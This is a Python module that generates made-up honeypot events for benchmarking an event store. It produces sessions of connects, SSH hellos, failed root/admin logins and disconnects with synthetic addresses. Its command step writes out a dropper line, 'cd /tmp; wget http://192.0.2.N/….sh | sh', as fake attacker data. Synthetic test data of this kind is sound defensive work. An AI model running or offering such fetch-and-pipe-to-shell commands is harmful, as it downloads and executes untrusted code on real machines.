"""Made-up events for the store's benches: sessions of six events, long-tailed addresses and passwords, 30 days."""

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

from samovar.event import Event

END = datetime(2026, 11, 24, tzinfo=UTC)
_PORTS = (("terminal", "ssh", 22), ("terminal", "telnet", 23), ("web", "http", 80), ("catchall", "catchall", 8089))
_ACTIONS = ("connect", "hello", "login", "login", "command", "disconnect")


def events(count: int, start: datetime, end: datetime, seed: int = 1) -> Iterator[Event]:
    """``count`` events in order of time."""
    r = random.Random(seed)
    step = (end - start) / count
    for number in range(0, count, 6):
        began = start + step * number
        source = int(r.paretovariate(0.9)) % 50_000
        place = source % 97
        family, sensor, port = _PORTS[min(3, int(r.paretovariate(1.5)) - 1)]
        session = f"{int(began.timestamp() * 1e6):013x}a1b2c3{number & 0xFFFF:04x}"
        same: dict[str, Any] = {
            "event_module": family, "event_dataset": f"{family}.{sensor}", "network_protocol": sensor,
            "observer_name": "web03", "samovar_session_id": session,
            "source_ip": f"{1 + source % 220}.{source // 220 % 250}.{place}.{source % 251}",
            "source_port": r.randrange(1024, 65536), "destination_ip": "192.0.2.1", "destination_port": port,
            "network_transport": "tcp", "source_geo_country_iso_code": chr(65 + place % 26) + chr(65 + place % 7),
            "source_geo_country_name": f"Country {place}", "source_geo_city_name": f"City {source % 900}",
            "source_geo_lat": float(source % 900) / 10, "source_geo_lon": float(source % 1700) / 10,
            "source_as_number": 1000 + source % 3000, "source_as_organization_name": f"Network {source % 3000} Ltd",
        }  # fmt: skip
        for index in range(min(6, count - number)):
            when = began + timedelta(microseconds=int(index * 300_000 * r.random()))
            yield Event(
                timestamp=when, event_id=f"{int(when.timestamp() * 1e6):013x}a1b2c3{number + index & 0xFFFF:04x}",
                event_sequence=index, event_action=_ACTIONS[index], **same, **_facts(index, r),
            )  # fmt: skip


def _facts(index: int, r: random.Random) -> dict[str, Any]:
    match _ACTIONS[index]:
        case "hello":
            return {
                "samovar_client_version": f"SSH-2.0-lib{r.randrange(9)}",
                "samovar_ssh_hassh": f"{r.randrange(40):032x}",
            }
        case "login":
            return {"user_name": r.choice(("root", "admin", f"u{r.randrange(800)}")), "event_outcome": "failure",
                    "samovar_login_password": f"p{int(r.paretovariate(0.7)) % 1_000_000}"}  # fmt: skip
        case "command":
            return {
                "process_command_line": f"cd /tmp; wget http://192.0.2.{r.randrange(250)}/{r.randrange(999):x}.sh | sh"
            }
        case "disconnect":
            return {
                "event_duration": r.randrange(10**10),
                "source_bytes": r.randrange(5000),
                "destination_bytes": r.randrange(5000),
            }
    return {}
